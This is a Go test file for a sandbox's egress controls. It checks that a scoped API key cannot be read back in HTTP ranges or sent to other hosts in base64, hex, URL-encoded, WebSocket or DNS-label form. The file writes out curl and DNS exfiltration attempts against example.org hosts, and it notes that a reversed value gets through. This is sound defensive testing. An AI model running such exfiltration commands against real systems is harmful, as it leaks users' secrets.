package egress_test

import (
	"context"
	"crypto/rand"
	_ "embed"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/airlock-sandbox/airlock"
	"github.com/airlock-sandbox/airlock/api"
	"github.com/airlock-sandbox/airlock/internal/testnet"
	"github.com/airlock-sandbox/airlock/policy"
)

// piecesPy reads a value back in pieces and tries to send it elsewhere
// (see its docstring).
//
//go:embed testdata/pieces.py
var piecesPy []byte

const piecesPath = "/tmp/pieces.py"

// piecesBox is a sandbox whose secret API_KEY is scoped to
// api.example.com, a store; other.example.org and files.example.net are
// allowed too. The value is stored on api.example.com (as the sandbox
// can: it sends the placeholder there). It returns the value.
func piecesBox(t *testing.T, e *env) (*airlock.Sandbox, string) {
	t.Helper()
	value := "sk-live-" + rand.Text()
	e.secret(value)
	n := e.network(testnet.API, testnet.Other, testnet.Files)
	n.Secrets = map[string]policy.Secret{"API_KEY": {Value: value, Hosts: []string{testnet.API}}}
	sb := e.box(t, n)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := sb.WriteFile(ctx, piecesPath, piecesPy, 0o644); err != nil {
		t.Fatal(err)
	}
	ok(t, sb, `printf %s "$API_KEY" | curl -sS --fail -X PUT --data-binary @- https://api.example.com/store/k`)
	if req, _ := e.w.LastRequest(testnet.API); string(req.Body) != value {
		t.Fatalf("the store got %q, want the value", req.Body)
	}
	return sb, value
}

// TestPiecesRangeReadBack proves that a value stored on the secret's own
// host cannot be read back in HTTP ranges, which no scrubber could
// recognise: Range and If-Range never reach a host whose responses are
// scrubbed (the whole object comes back, scrubbed), and a partial
// response that the host sends anyway, without being asked, is refused
// (secret_unrewritable). HTTP/1.1 and HTTP/2, curl and python.
func TestPiecesRangeReadBack(t *testing.T) {
	e := start(t)
	sb, value := piecesBox(t, e)
	size := len(value)

	for _, ifRange := range []string{"", "if-range"} {
		before := len(e.w.Requests(testnet.API))
		out := ok(t, sb, fmt.Sprintf("python3 %s ranges https://api.example.com/store/k %d 4 %s", piecesPath, size, ifRange))
		if strings.Contains(out, " 206") {
			t.Errorf("a range came back:\n%s", out)
		}
		got := ok(t, sb, "cat /tmp/ranges")
		noValue(t, "ranges put together", got, value)
		for _, r := range e.w.Requests(testnet.API)[before:] {
			if r.Header.Get("Range") != "" || r.Header.Get("If-Range") != "" {
				t.Errorf("the store got Range %q If-Range %q", r.Header.Get("Range"), r.Header.Get("If-Range"))
			}
		}
	}
	// curl, HTTP/2 and HTTP/1.1, several ranges at once too.
	for _, flags := range []string{"--http2 -r 0-3", "--http1.1 -r 4-7", "-r 0-3,8-11"} {
		out := ok(t, sb, "curl -sS "+flags+" https://api.example.com/store/k")
		noValue(t, "curl "+flags, out, value)
		if !strings.Contains(out, placeholder(t, sb)) {
			t.Errorf("curl %s: %q, want the whole object, scrubbed", flags, out)
		}
	}

	// A host that answers with a range unasked.
	m := e.mark()
	res := sh(t, sb, "curl -sS -o /tmp/partial -w '%{http_code}' 'https://api.example.com/store/k?partial=0-5'")
	if string(res.Stdout) != "403" {
		t.Errorf("an unasked 206: status %q, want 403", res.Stdout)
	}
	ev := e.request(t, m, "https://api.example.com/store/k?partial=0-5")
	wantBlocked(t, ev, api.NetHTTP, policy.ReasonSecretUnrewritable)
	noValue(t, "an unasked 206", ok(t, sb, "cat /tmp/partial"), value)

	// A host whose responses are not scrubbed (no secret goes there)
	// keeps its ranges.
	ok(t, sb, "printf 0123456789 | curl -sS --fail -X PUT --data-binary @- https://files.example.net/store/d")
	if out := ok(t, sb, "curl -sS -r 2-4 https://files.example.net/store/d"); out != "234" {
		t.Errorf("a range from files.example.net: %q, want 234", out)
	}
}

// TestPiecesValueSentElsewhere proves that a value the sandbox has come
// by (here through pieces that the store's application cuts, which no
// proxy can tell from any other data: what remains open) cannot be sent
// to another allowed host in any form ordinary software writes it in: as
// it is, percent-encoded, in JSON, in base64 (standard, URL-safe,
// unpadded, at every offset inside a longer text, in Basic credentials)
// and in hex, in the body, a header or the query; nor in a WebSocket
// message. Each try is blocked (secret_leak) and no request that carries
// it reaches that host.
func TestPiecesValueSentElsewhere(t *testing.T) {
	e := start(t)
	sb, value := piecesBox(t, e)

	out := ok(t, sb, fmt.Sprintf("python3 %s offsets https://api.example.com/store/k %d 4", piecesPath, len(value)))
	if got := ok(t, sb, "cat /tmp/offsets"); got != value {
		// What remains open: the host that stores a value and cuts it
		// for the sandbox hands it over. Should this ever change, the
		// test below needs another way to give the sandbox the value.
		t.Fatalf("offsets: %s; put together %q, want the value", out, got)
	}

	before := len(e.w.Requests(testnet.Other))
	out = ok(t, sb, fmt.Sprintf("python3 %s exfil https://other.example.org/echo /tmp/offsets", piecesPath))
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 33 {
		t.Errorf("%d tries, want 33:\n%s", len(lines), out)
	}
	for _, l := range lines {
		f := strings.Fields(l)
		if len(f) != 4 || f[2] != "403" || f[3] != policy.ReasonSecretLeak {
			t.Errorf("try %q: want 403 secret_leak", l)
		}
	}
	// Nothing with the value reached other.example.org.
	forms := []string{value, base64.StdEncoding.EncodeToString([]byte(value))[:len(value)], hex.EncodeToString([]byte(value)), url.QueryEscape(value)}
	for _, r := range e.w.Requests(testnet.Other)[before:] {
		for _, f := range forms {
			if strings.Contains(string(r.Body)+r.URI+fmt.Sprint(r.Header), f) {
				t.Errorf("other.example.org got a request with the value: %+v", r)
			}
		}
	}
	// The events of the blocked tries hold no value (checked for every
	// event by start), and name the secret.
	m := e.mark()
	fails(t, sb, `curl -sS --fail "https://other.example.org/echo?k=$(cat /tmp/offsets)"`)
	if ev := e.blocked(t, m, api.NetHTTP, policy.ReasonSecretLeak, testnet.OtherAddr, 443); !strings.Contains(ev.Reason, "secret API_KEY") || strings.Contains(ev.URL, value) {
		t.Errorf("event %+v", ev)
	}

	// A WebSocket message.
	m = e.mark()
	if out := tool(t, sb, `ws other.example.org /ws "v=$(cat /tmp/offsets)"`); !strings.Contains(out, "close: code=1008") {
		t.Errorf("a WebSocket message with the value: %q, want a close with 1008", out)
	}
	e.blocked(t, m, api.NetHTTP, policy.ReasonSecretLeak, testnet.OtherAddr, 443)

	// A DNS question for a name that carries the value, under a zone
	// allowed by a wildcard, never reaches the zone's servers: as it is,
	// in hex split across labels, or in base32.
	if err := sb.AllowHost("*.files.example.net"); err != nil {
		t.Fatal(err)
	}
	hexValue := hex.EncodeToString([]byte(value))
	b32 := strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString([]byte(value)), "="))
	for _, name := range []string{
		strings.ToLower(value) + ".files.example.net",
		hexValue[:30] + "." + hexValue[30:] + ".files.example.net",
		b32 + ".files.example.net",
	} {
		m := e.mark()
		if out := tool(t, sb, "resolve "+name+" 4"); !strings.HasPrefix(out, "error:") {
			t.Errorf("resolve %s: %q, want an error", name, out)
		}
		ev := e.since(t, m, "dns event", func(ev api.NetworkEvent) bool { return ev.Kind == api.NetDNS && ev.Blocked })
		wantBlocked(t, ev, api.NetDNS, policy.ReasonSecretLeak)
		if strings.Contains(ev.Host, hexValue[:16]) || strings.Contains(ev.Host, strings.ToLower(value)) {
			t.Errorf("the DNS event names the value: %+v", ev)
		}
		if n := e.w.DNS.Queries(name); n != 0 {
			t.Errorf("the World's DNS got %d questions for %s", n, name)
		}
	}

	// What a proxy cannot see: the value transformed on purpose
	// (reversed, here by the store itself) passes. This is the limit of
	// the defence, asserted so that the README's account of it stays
	// true.
	if out := ok(t, sb, "curl -sS 'https://api.example.com/store/k?reverse=1'"); out != reverse(value) {
		t.Errorf("reversed read-back: %q", out)
	}
}

func reverse(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}
